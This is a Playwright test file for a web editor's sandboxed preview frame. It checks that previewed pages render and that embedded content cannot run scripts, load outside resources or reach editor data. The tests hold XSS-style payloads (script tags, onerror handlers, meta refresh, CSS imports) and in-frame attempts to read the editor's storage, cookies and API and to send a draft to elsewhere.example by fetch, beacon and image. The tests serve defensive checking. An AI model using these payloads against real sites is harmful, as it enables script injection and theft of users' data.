/** The frame in which the editor shows a page: the page lives, and neither it nor what is written in it gets out. */
import type { Frame, Page } from '@playwright/test';
import type { FromPage, ToPage } from '../../../editor/preview/frame/messages.ts';
import { buildFrame, framePolicy } from '../../../scripts/editor/frameDocument.ts';
import { expect, test } from '../support/fixtures.ts';

test.use({ expectedNoise: /policy|sandbox|Blocked|Failed to load|^undefined$/i });

const EDITOR = 'https://editor.example';
const PICTURE = '/media/team/anbu.1fA9c.400.webp';
const LARGER = PICTURE.replace('400', '800');
const FAR_BELOW = PICTURE.replace('anbu', 'kavitha');

declare global {
  var heard: FromPage[];
}

let built: Promise<string> | undefined;

/** Opens an editor with a secret and nothing but the frame. @returns also all that is asked of any host */
async function openFrame(page: Page) {
  built ??= buildFrame();
  const html = await built;
  const asked: string[] = [];
  await page.route('**', (route) => {
    const address = route.request().url();
    asked.push(address);
    const headers = { 'Content-Security-Policy': framePolicy(html) };
    if (address === `${EDITOR}/frame.html`) return route.fulfill({ contentType: 'text/html', headers, body: html });
    const body = `<!DOCTYPE html><title>Editor</title><p>Draft</p><iframe src="/frame.html" sandbox="allow-scripts"></iframe>
      <script>heard = []; localStorage.draft = 'Draft'; onmessage = ({ data }) => heard.push(data)</script>`;
    // The editor's own policy says so, too: the frame cannot leave.
    return route.fulfill({
      contentType: 'text/html',
      headers: { 'Content-Security-Policy': "frame-src 'self'" },
      body,
    });
  });
  await page.goto(EDITOR);
  await hears(page, { type: 'page:ready' });
  const frame = page.frame({ url: `${EDITOR}/frame.html` }) as Frame;
  asked.length = 0;
  return { frame, asked };
}

const hears = (page: Page, message: FromPage) =>
  expect.poll(() => page.evaluate(() => globalThis.heard)).toContainEqual(message);

const show = (page: Page, html: string) =>
  page.evaluate((message) => document.querySelector('iframe')?.contentWindow?.postMessage(message, '*'), {
    type: 'editor:show',
    html,
    path: '/ta/contact',
    days: 3,
    scrolls: false,
    picks: false,
  } satisfies ToPage);

test('a page is shown with its style, scripts and day, and the pictures that the editor sends', async ({ page }) => {
  const { frame, asked } = await openFrame(page);
  const sizes = `${PICTURE} 400w, ${LARGER} 800w`;
  const body = `<h1>Contact</h1><picture><source srcset="${sizes}"><img src="${LARGER}" srcset="${sizes}" width="300" alt=""></picture>
    <p id="place">Here</p><a href="/ta/contact#place">Down</a> <a href="tel:+910000000001">Call</a>
    <form action="/ta/thanks"><input name="name" required aria-label="Name"><button>Send</button></form>
    <img src="${FAR_BELOW}" alt="" style="margin-top: 3000px">`;
  const documentOf = (text: string) =>
    `<!DOCTYPE html><html lang="ta"><head><title>Contact</title><style>h1{color:#0f6b66}</style></head><body>${text}</body></html>`;
  await show(page, documentOf(body));
  await expect(frame.getByRole('heading')).toHaveCSS('color', 'rgb(15, 107, 102)');
  await expect(frame.locator('html[lang=ta]')).toHaveAttribute('data-clear');
  const days = await frame.evaluate(() => (Date.now() - performance.timeOrigin - performance.now()) / 86_400_000);
  expect(Math.round(days)).toBe(3);

  await hears(page, { type: 'page:picture', address: PICTURE });
  await page.evaluate(async (address) => {
    const picture = new Blob(['<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>'], {
      type: 'image/svg+xml',
    });
    document.querySelector('iframe')?.contentWindow?.postMessage({ type: 'editor:picture', address, picture }, '*');
  }, PICTURE);
  const width = () => frame.locator('picture > img').evaluate((image: HTMLImageElement) => image.naturalWidth);
  await expect.poll(width).toBe(7);
  const hasAsked = await page.evaluate(() => globalThis.heard.filter(({ type }) => type === 'page:picture').length);
  expect(hasAsked, 'neither for a larger picture, nor for one that nobody sees').toBe(1);

  await frame.getByLabel('Name').fill('Anbu');
  await show(page, documentOf(body.replace('Contact', 'Contact us')));
  await expect(frame.getByRole('heading')).toHaveText('Contact us');
  await expect(frame.getByLabel('Name')).toHaveValue('Anbu');
  expect(await width()).toBe(7);

  await frame.getByText('Call').click();
  await hears(page, { type: 'page:leads', href: 'tel:+910000000001' });
  await frame.getByText('Down').click();
  await frame.getByText('Send').click();
  await hears(page, { type: 'page:leads', href: `${EDITOR}/ta/thanks` });
  const leads = await page.evaluate(() => globalThis.heard.filter(({ type }) => type === 'page:leads').length);
  expect(leads, 'a place on the page is on the page').toBe(2);
  expect(asked).toEqual([]);
});

/** What somebody could write into a text, if no text of the site were ever escaped. */
const HOSTILE = [
  '<script>ran = true</script>',
  '<img src="data:," onerror="ran = true"><svg onload="ran = true"></svg>',
  '<img src="https://elsewhere.example/1.gif"><img srcset="https://elsewhere.example/2.gif 1x">',
  '<picture><source srcset="https://elsewhere.example/3.gif"><img alt=""></picture>',
  '<video poster="https://elsewhere.example/4.gif" src="https://elsewhere.example/5.mp4" autoplay></video>',
  '<link rel="stylesheet" href="https://elsewhere.example/6.css"><link rel="prefetch" href="https://elsewhere.example/7">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/8"><base href="https://elsewhere.example/">',
  '<iframe src="https://elsewhere.example/9"></iframe><iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  '<p style="background: url(https://elsewhere.example/10.gif)">Text</p><style>@import "https://elsewhere.example/11.css"</style>',
  '<object data="https://elsewhere.example/12"></object><embed src="https://elsewhere.example/13">',
].join('\n');

test('what is written in a page runs nothing and loads nothing', async ({ page }) => {
  const { frame, asked } = await openFrame(page);
  await show(page, `<!DOCTYPE html><html lang="en"><body><h1>Hostile</h1>${HOSTILE}</body></html>`);
  await expect(frame.locator('html[data-clear]').getByRole('heading')).toBeVisible();
  // Whatever would be loaded has been asked for by then.
  await frame.evaluate(() => new Promise((done) => setTimeout(done, 500)));
  expect(await frame.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(asked).toEqual([]);
});

test('scripts of a page reach neither the editor nor what it keeps, and send nothing', async ({ page }) => {
  const { frame, asked } = await openFrame(page);
  await show(page, '<!DOCTYPE html><html lang="en"><body><h1>The page</h1></body></html>');
  await expect(frame.locator('html[data-clear]').getByRole('heading')).toBeVisible();
  const reached = await frame.evaluate(async (editor) => {
    const tries: Record<string, () => unknown> = {
      document: () => parent.document.body.textContent,
      'storage of the editor': () => parent.localStorage.draft,
      storage: () => localStorage.draft,
      cookies: () => document.cookie,
      database: () => indexedDB.databases(),
      caches: () => caches.keys(),
      'service worker': () => navigator.serviceWorker.getRegistrations(),
      data: () => fetch(`${editor}/api/draft`, { credentials: 'include' }),
      elsewhere: () => fetch('https://elsewhere.example/', { mode: 'no-cors' }),
      window: () => open('https://elsewhere.example/'),
      leaving: () => top?.location.assign('https://elsewhere.example/'),
      worker: () =>
        new Promise((done, fail) => Object.assign(new Worker('data:,'), { onmessage: done, onerror: fail })),
      script: () =>
        new Promise((done, fail) =>
          document.head.append(
            Object.assign(document.createElement('script'), { src: `${editor}/x.js`, onload: done, onerror: fail }),
          ),
        ),
      evaluation: () => new Function('return true')(),
      beacon: () => navigator.sendBeacon('https://elsewhere.example/', 'draft') && undefined,
      picture: () =>
        new Promise((done, fail) =>
          Object.assign(new Image(), { src: 'https://elsewhere.example/?draft', onload: done, onerror: fail }),
        ),
    };
    const done: string[] = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        if ((await attempt()) != null) done.push(name);
      } catch {}
    }
    return done;
  }, EDITOR);
  expect(reached).toEqual([]);
  await frame.evaluate(() => location.assign('https://elsewhere.example/?draft'));
  await expect.poll(() => page.frames().some((each) => each.url().startsWith('chrome-error:'))).toBe(true);
  expect(asked).toEqual([]);
});

test('only the editor says what is shown', async ({ page }) => {
  const { frame } = await openFrame(page);
  await show(page, '<!DOCTYPE html><html lang="en"><body><p>Real</p></body></html>');
  await expect(frame.getByText('Real')).toBeVisible();
  await frame.evaluate(
    () =>
      new Promise((heard) => {
        addEventListener('message', heard);
        postMessage({ type: 'editor:show', html: '<p>Forged</p>' }, '*');
      }),
  );
  await expect(frame.locator('body')).toHaveText('Real');
});
